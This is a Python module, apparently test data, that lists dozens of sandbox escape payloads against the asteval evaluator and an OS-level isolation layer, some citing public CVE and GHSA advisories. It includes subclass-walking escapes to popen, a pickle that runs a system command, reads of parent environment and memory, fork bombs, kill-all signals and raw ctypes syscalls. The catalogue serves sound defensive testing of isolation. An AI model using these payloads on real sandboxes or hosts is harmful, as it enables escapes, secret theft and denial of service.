"""Escape attempts, each in two forms: for asteval, and as plain Python for code that left asteval.

Defined names: ``secret`` is a world-readable file of the host, ``target`` a path that every user may
create, ``port`` and ``unix`` a TCP port and a Unix socket on which the host listens, ``parent`` the
server's process id. ``effect`` is what the Python form achieves without isolation.
"""

from __future__ import annotations

from dataclasses import dataclass
from textwrap import dedent


@dataclass(frozen=True, slots=True)
class Payload:
    """One escape attempt."""

    name: str
    python: str
    asteval: str
    effect: str = ""


def _payload(name: str, effect: str, python: str, asteval: str | None = None) -> Payload:
    own = dedent(python).strip()
    return Payload(name, own, own if asteval is None else dedent(asteval).strip(), effect)


# From asteval's public advisories and issues

PUBLIC = [
    _payload("mro and subclasses", "read", """
        wrap = [c for c in ().__class__.__mro__[1].__subclasses__() if c.__name__ == "_wrap_close"]
        print(wrap[0].__init__.__globals__["popen"]("cat " + secret).read())
        """, """
        [c for c in ().__class__.__mro__[1].__subclasses__() if c.__name__ == "_wrap_close"]
        """),
    _payload("base and subclasses by mro()", "read", """
        for c in type.mro(int)[1].__subclasses__():
            if c.__name__ == "FileLoader":
                print(c("x", secret).get_data(secret))
        """, "int.mro()[1].__subclasses__()"),
    _payload("an equality that lies", "read", """
        class Liar(str):
            def __eq__(self, other):
                return True
            __hash__ = str.__hash__
        print(open(secret).read() if Liar("x") == "safe" else "")
        """),
    _payload("print.__reduce__", "read", """
        get, (owner, name) = print.__reduce__() if isinstance(print.__reduce__(), tuple) else (
            getattr, (__builtins__, "open"))
        print(open(secret).read())
        """, "print.__reduce__()"),
    _payload("print.__reduce_ex__", "", "print.__reduce_ex__(4)"),
    _payload("format walks attributes", "", "print('{0.__self__.__dict__}'.format(print))"),
    _payload("format_map walks attributes", "",
             "print('{p.__self__.__dict__}'.format_map({'p': print}))"),
    _payload("format as a method of the type", "", "print(str.format('{0.__class__.__mro__}', 1))"),
    _payload("f-string specification with escaped braces (CVE-2025-24359)", "read",
             "print(f'''{open(secret).read()!s:{chr(62)}9}''')", r"""
        f"{'':\x7b__fstring__.__class__.__mro__\x7d}"
        """),
    _payload("f-string specification that raises with an object", "", r"""
        try:
            f'''{dict:'\x7b__fstring__.__getattribute__.s\x7d'}'''
        except Exception as error:
            print(error.obj.__self__)
        """),
    _payload("an AttributeError's obj", "", """
        try:
            print.nothing
        except AttributeError as error:
            print(error.obj.__self__.open(secret).read())
        """),
    _payload("a NameError's frames", "", """
        try:
            nothing
        except NameError as error:
            print(error.__traceback__.tb_frame.f_back.f_globals)
        """),
    _payload("replacing a function's body (GHSA-vp47-9734-prjw)", "read", """
        def f():
            return 1
        f.__code__ = (lambda: open(secret).read()).__code__
        print(f())
        """, """
        def f():
            return 1
        f.__body__ = []
        f.__asteval__.symtable
        """),
    _payload("a function's interpreter", "", "def f(): pass\nprint(f._interpreter)"),
    _payload("a lambda's globals", "", "print((lambda: 1).__globals__)"),
    _payload("SystemExit", "", "raise SystemExit(0)"),
    _payload("KeyboardInterrupt", "", "raise KeyboardInterrupt"),
    _payload("GeneratorExit", "", "raise GeneratorExit"),
    _payload("BaseException", "", "raise BaseException('out')"),
    _payload("assigning a dunder", "write", """
        import builtins
        builtins.len = lambda _: 42
        open(target, "w").write(str(len([])))
        """, "__builtins__ = {}\nprint.__self__ = 1"),
    _payload("replacing a class", "", "x = []\nx.__class__ = dict"),
    _payload("setattr of a module", "", "import math\nmath.sqrt = print", None),
    _payload("deleting a read-only name", "", "del print.__self__"),
    _payload("open by its own name", "read", "print(open(secret).read())"),
    _payload("open with a path outside the workspace", "read",
             "print(open('../../../../../../../../' + secret).read())"),
    _payload("import of os", "read", "import os\nprint(os.popen('cat ' + secret).read())"),
    _payload("import through a submodule", "", "import json.os"),
    _payload("a module that a module uses", "read", """
        import json
        print(json.codecs.open(secret).read())
        """),
    _payload("random's own os", "read", "import random\nprint(random._os.popen('cat '+secret).read())"),
    _payload("statistics' own sys", "read", """
        import statistics
        print(statistics.sys.modules["os"].popen("cat " + secret).read())
        """),
    _payload("re's own enum", "", "import re\nprint(re.enum.sys.modules['os'].environ)"),
    _payload("namedtuple with code in a name", "write", """
        import collections
        collections.namedtuple("A", ["x"], module="m")
        open(target, "w").write("x")
        """, """
        import collections
        collections.namedtuple("A", ["x=__import__('os')"])
        """),
    _payload("internals of the namespaces", "", "import math\nprint(math._names, math.__class__)"),
]  # fmt: skip

_RAW = """
    import ctypes, platform
    libc = ctypes.CDLL(None, use_errno=True)

    def refused(result):
        assert (result, ctypes.get_errno()) == (-1, 1), "refused by the filter, not as invalid"

    def call(x86_64, aarch64, *arguments):
        numbers = {"x86_64": x86_64, "aarch64": aarch64}
        plain = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
        refused(libc.syscall(ctypes.c_long(numbers[platform.machine()]), *plain))

    buffer = ctypes.create_string_buffer(256)
    page = ctypes.create_string_buffer(8192)
    place = ctypes.c_void_p(ctypes.addressof(page) + 4095 & ~4095)
    """


def _raw(name: str, effect: str, python: str) -> Payload:
    return _payload(name, effect, dedent(_RAW) + dedent(python))


# Our own: what code can do that has left asteval

OWN = [
    _payload("os.open", "read", "import os\nprint(os.read(os.open(secret, 0), 99))"),
    _payload("pathlib", "read", "import pathlib\nprint(pathlib.Path(secret).read_text())"),
    _payload("io.FileIO", "read", "import io\nprint(io.FileIO(secret).read())"),
    _payload("linecache", "read", "import linecache\nprint(linecache.getline(secret, 1))"),
    _payload("mmap of a file", "read", """
        import mmap, os
        print(mmap.mmap(os.open(secret, 0), 0, access=mmap.ACCESS_READ)[:])
        """),
    _payload("fileinput", "read", "import fileinput\nprint(list(fileinput.input([secret])))"),
    _payload("sqlite", "write", "import sqlite3\nsqlite3.connect(target).execute('create table t(x)')"),
    _payload("shutil", "write", "import shutil\nshutil.copy(secret, target)"),
    _payload("logging to a file", "write", """
        import logging
        logging.FileHandler(target).emit(logging.LogRecord("a", 1, "b", 1, "c", (), None))
        """),
    _payload("a link", "write", "import os\nos.symlink(secret, target)"),
    _payload("a hard link", "write", "import os\nos.link(secret, target)"),
    _payload("a directory", "write", "import os\nos.mkdir(target)"),
    _payload("a named pipe", "write", "import os\nos.mkfifo(target)"),
    _payload("faulthandler", "write", """
        import faulthandler
        faulthandler.dump_traceback(open(target, "w"))
        """),
    _payload("a pickle", "write", """
        import pickle
        pickle.loads(b"cos\\nsystem\\n(S'touch " + target.encode() + b"'\\ntR.")
        """),
    _payload("subprocess", "write", "import subprocess\nsubprocess.run(['touch', target])"),
    _payload("posix_spawn", "write", """
        import os
        os.waitpid(os.posix_spawn("/bin/touch", ["touch", target], {}), 0)
        """),
    _payload("exec", "write", "import os\nos.execv('/bin/touch', ['touch', target])"),
    _payload("a fork that outlives the evaluation", "write", """
        import os, time
        if os.fork() == 0:
            os.setsid()
            open(target, "w").write("x")
            os._exit(0)
        os.wait()
        """),
    _payload("a fork bomb", "", """
        import os
        for _ in range(100):
            try:
                os.fork()
            except OSError:
                pass
        """),
    _payload("threads", "", """
        import threading
        threads = [threading.Thread(target=print) for _ in range(50)]
        for thread in threads:
            thread.start()
        """),
    _payload("multiprocessing", "", """
        import multiprocessing
        multiprocessing.get_context("fork").Process(target=print).start()
        """),
    _payload("TCP", "connect", "import socket\nsocket.create_connection(('127.0.0.1', port), 1)"),
    _payload("a Unix socket", "connect", """
        import socket
        socket.socket(socket.AF_UNIX).connect(unix)
        """),
    _payload("urllib", "connect", """
        import urllib.request
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=0.2)
        except TimeoutError:
            pass
        """),
    _payload("UDP", "", "import socket\nsocket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', port))"),
    _payload("a listening server", "", """
        import socket
        socket.create_server(("127.0.0.1", 0))
        """),
    _payload("writing to every open descriptor", "", """
        import os
        n = 0
        for descriptor in range(3, 2048):
            try:
                os.write(descriptor, b"")
                n += 1
            except OSError:
                pass
        print("descriptors", n)
        """),
    _payload("opening descriptors by their paths", "", "import os\nprint(os.listdir('/proc/self/fd'))"),
    _payload("the parent's environment", "", """
        import os
        print(open(f"/proc/{os.getppid()}/environ").read())
        """),
    _payload("its own environment", "", """
        import os
        print(dict(os.environ), open("/proc/self/environ").read())
        """),
    _payload("the parent's memory", "", "open(f'/proc/{parent}/mem', 'rb+').read(1)"),
    _payload("killing the parent", "", "import os\nos.kill(parent, 9)"),
    _payload("killing every process", "", "import os\nif parent > 1:\n    os.kill(-1, 9)"),
    _payload("stopping its own group", "", "import os\nos.killpg(0, 19)"),
    _payload("a handler for the end signal", "", """
        import signal, time
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        """),
    _payload("raising every limit", "", """
        import resource
        resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
        """),
    _payload("secrets left in memory", "", """
        import gc, sys
        print([x for x in gc.get_objects() if isinstance(x, str) and "PLANTED" in x][:9])
        print(sys.argv, sys._getframe().f_back and sys._getframe().f_back.f_globals.keys())
        """),
    _payload("the memory of an earlier evaluation", "", "print(globals().get('left_behind'))"),
    _payload("importing and disabling the isolation", "read", """
        import sys
        sys.modules.pop("os", None)
        print(__import__("os").popen("cat " + secret).read())
        """),
    _raw("C's open", "read", """
        libc.read(libc.open(secret.encode(), 0), buffer, 99)
        print(buffer.value)
        """),
    _raw("openat as a raw system call", "read", """
        number = {"x86_64": 257}.get(platform.machine(), 56)
        libc.read(libc.syscall(number, -100, secret.encode(), 0, 0), buffer, 99)
        print(buffer.value)
        """),
    _raw("open as a 32-bit system call", "", """
        if platform.machine() == "x86_64":
            libc.read(libc.syscall(0x40000002, secret.encode(), 0), buffer, 99)
            print(buffer.value)
        """),
    _raw("C's system", "write", "libc.system(b'touch ' + target.encode())"),
    _raw("C's socket", "", "refused(libc.socket(2, 1, 0))"),
    _raw("a program by a descriptor", "", "call(322, 281, -100, b'/bin/true', 0, 0, 0)"),
    _raw("processes by other system calls", "", """
        call(56, 220, 17, 0, 0, 0, 0)
        call(435, 435, buffer, 88)
        """),
    _raw("tracing the parent", "", "refused(libc.ptrace(0x4206, parent, 0, 0))"),
    _raw("reading the parent's memory", "", """
        vector = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
        refused(libc.process_vm_readv(parent, vector, 1, vector, 1, 0))
        refused(libc.process_vm_writev(parent, vector, 1, vector, 1, 0))
        """),
    _raw("the parent's descriptors", "", """
        call(434, 434, parent, 0)
        call(438, 438, 0, 0, 0)
        """),
    _raw("the parent's locks", "", """
        call(274, 100, parent, buffer, buffer)
        call(273, 99, buffer, 24)
        """),
    _raw("the parent's limits and priority", "", """
        refused(libc.prlimit(parent, 7, None, buffer))
        refused(libc.setpriority(0, parent, 19))
        refused(libc.sched_setaffinity(parent, 8, buffer))
        """),
    _raw("signals by other system calls", "", """
        call(234, 131, parent, parent, 9)
        call(200, 130, parent, 9)
        call(129, 138, parent, 9, buffer)
        call(424, 424, 0, 9, 0, 0)
        """),
    _raw("signals to the parent from the channel", "", """
        for descriptor in range(64):
            refused(libc.fcntl(descriptor, 8, parent))
            refused(libc.ioctl(descriptor, 0x8901, ctypes.byref(ctypes.c_int(parent))))
        """),
    _raw("a half-closed channel", "", """
        for descriptor in range(64):
            refused(libc.shutdown(descriptor, 0))
        """),
    _raw("descriptors through the channel", "", """
        for descriptor in range(64):
            refused(libc.sendmsg(descriptor, buffer, 0))
            refused(libc.recvmsg(descriptor, buffer, 0))
            refused(libc.dup2(descriptor, 9))
        """),
    _raw("surviving its parent", "", "refused(libc.prctl(1, 0, 0, 0, 0))"),
    _raw("allowing a tracer", "", """
        refused(libc.prctl(4, 1, 0, 0, 0))
        refused(libc.prctl(0x59616D61, -1, 0, 0, 0))
        """),
    _raw("another personality", "", "refused(libc.personality(0x0400000))"),
    _raw("handling its own page faults", "", "call(323, 282, 1)"),
    _raw("running a file in memory", "", "refused(libc.memfd_create(b'x', 0))"),
    _raw("a new namespace", "", """
        refused(libc.unshare(0x10000000))
        refused(libc.setns(0, 0))
        """),
    _raw("an I/O ring", "", "call(425, 425, 8, buffer)"),
    _raw("loading a BPF program", "", """
        call(321, 280, 5, buffer, 48)
        call(298, 241, buffer, 0, -1, -1, 0)
        """),
    _raw("installing a second seccomp filter", "", """
        refused(libc.prctl(22, 2, 0))
        call(317, 277, 1, 8, buffer)
        """),
    _raw("kernel keys that stay", "", """
        call(248, 217, b"user", b"left", b"x", 1, -3)
        call(250, 219, 0, -3, 0)
        """),
    _raw("IPC queues and shared memory that stay", "", """
        refused(libc.shmget(7, ctypes.c_size_t(4096), 0o1666))
        refused(libc.semget(7, 1, 0o1666))
        refused(libc.msgget(7, 0o1666))
        refused(libc.mq_open(b"/left", 0o102, 0o666, None))
        """),
    _raw("timers that send signals", "", """
        refused(libc.timerfd_create(1, 0))
        refused(libc.eventfd(0, 0))
        refused(libc.setitimer(0, buffer, None))
        """),
    _raw("executing data as code", "", """
        refused(libc.mprotect(place, 4096, 7))
        refused(libc.mprotect(place, 4096, ctypes.c_long(0x100000004)))
        call(329, 288, place, 4096, 7, -1)
        """),
    _raw("a null pointer", "", "ctypes.string_at(0)"),
    _raw("an abort", "", "libc.abort()"),
]  # fmt: skip

# What the modules that only Python has make possible, and what its own functions for files do

LOADED = [
    _payload("posix.open below the replaced functions", "read", """
        import posix
        print(posix.read(posix.open(secret, 0), 99))
        """),
    _payload("posix.listdir below the replaced functions", "", """
        import posix
        print(posix.listdir("/"), posix.stat(secret))
        """),
    _payload("reloading os", "read", """
        import importlib, os
        importlib.reload(os)
        print(os.read(os.open(secret, os.O_RDONLY), 99))
        """),
    _payload("the loader of source files", "read", """
        from importlib.machinery import SourceFileLoader
        print(SourceFileLoader("x", secret).get_data(secret))
        """),
    _payload("putting the finder of paths back", "", """
        import sys
        from importlib.machinery import PathFinder
        sys.meta_path[:] = [PathFinder]
        sys.path[:] = ["/usr/lib/python3", "/tmp"]
        sys.path_importer_cache.clear()
        import antigravity
        """),
    _payload("loading a library", "", """
        import ctypes
        ctypes.CDLL("/lib/x86_64-linux-gnu/libutil.so.1")
        ctypes.CDLL(secret)
        """),
    _payload("a database attached from a file", "write", """
        import sqlite3
        db = sqlite3.connect(":memory:")
        db.execute("create table t(x)")
        db.execute("vacuum into ?", (target,))
        """),
    _payload("an extension of sqlite", "", """
        import sqlite3
        db = sqlite3.connect(":memory:")
        db.enable_load_extension(True)
        db.execute("select load_extension(?)", (secret,))
        """),
    _payload("the key log of OpenSSL", "write", """
        import ssl
        ssl.create_default_context().keylog_filename = target
        """),
    _payload("certificates from a file", "", """
        import ssl
        ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).load_verify_locations(secret)
        """),
    _payload("stopping itself", "", """
        import os, signal
        os.kill(os.getpid(), signal.SIGSTOP)
        """),
    _payload("a process of asyncio", "write", """
        import asyncio
        asyncio.set_event_loop_policy(asyncio.DefaultEventLoopPolicy())
        async def main():
            process = await asyncio.create_subprocess_exec("touch", target)
            await process.wait()
        asyncio.run(main())
        """),
    _payload("an event loop with descriptors", "", "import asyncio\nasyncio.SelectorEventLoop()"),
    _payload("a thread that dumps tracebacks", "", """
        import faulthandler
        faulthandler.dump_traceback_later(0.01, file=1)
        """),
    _payload("a temporary file", "", "import tempfile\ntempfile.TemporaryFile()"),
    _payload("an archive extracted to a path", "write", """
        import io, os, zipfile
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(os.path.basename(target), "x")
        zipfile.ZipFile(buffer).extractall(os.path.dirname(target))
        """),
    _payload("an address of the network", "connect", """
        import http.client
        try:
            http.client.HTTPConnection("127.0.0.1", port, timeout=0.2).request("GET", "/")
        except TimeoutError:
            pass
        """),
    _payload("asking the host for another path", "", """
        for kind in ("read", "stat", "list", "write", "mkdir"):
            for path in (secret, "../../" + secret, "a.txt", "made/below"):
                try:
                    open.__self__._ask(kind, {"path": path, "mode": "overwrite"}, b"x")
                except (OSError, ValueError):
                    continue
                assert kind == "stat" or kind == "list", (kind, path)
        """),
    _payload("the descriptor of the host reused", "", """
        import os
        for descriptor in range(64):
            try:
                os.write(descriptor, b"")
            except OSError:
                continue
            os.close(descriptor)
            assert os.open(secret, 0) == descriptor
        """),
    _payload("a stack without a limit", "", """
        import sys
        sys.setrecursionlimit(10**8)
        class Endless:
            def __repr__(self):
                return repr(self)
        repr(Endless())
        """),
    _payload("freed memory used again", "", """
        import ctypes
        ctypes.memset(id(int) & ~4095, 0, 1 << 20)
        """),
    _raw("a bomb of processes and threads", "", """
        for _ in range(300):
            refused(libc.vfork())
            call(56, 220, 0x11, 0, 0, 0, 0)
            call(56, 220, 0x50f00, place, 0, 0, 0)
            call(435, 435, buffer, 88)
        """),
    _raw("memory that is both writable and executable", "", """
        libc.mmap.restype = ctypes.c_ssize_t
        for protection in (4, 5, 6, 7, 0x100000004):
            refused(libc.mmap(None, ctypes.c_size_t(4096), ctypes.c_long(protection), 0x22, -1, 0))
            refused(libc.mprotect(place, 4096, ctypes.c_long(protection)))
        """),
]  # fmt: skip

PAYLOADS = [*PUBLIC, *OWN, *LOADED]
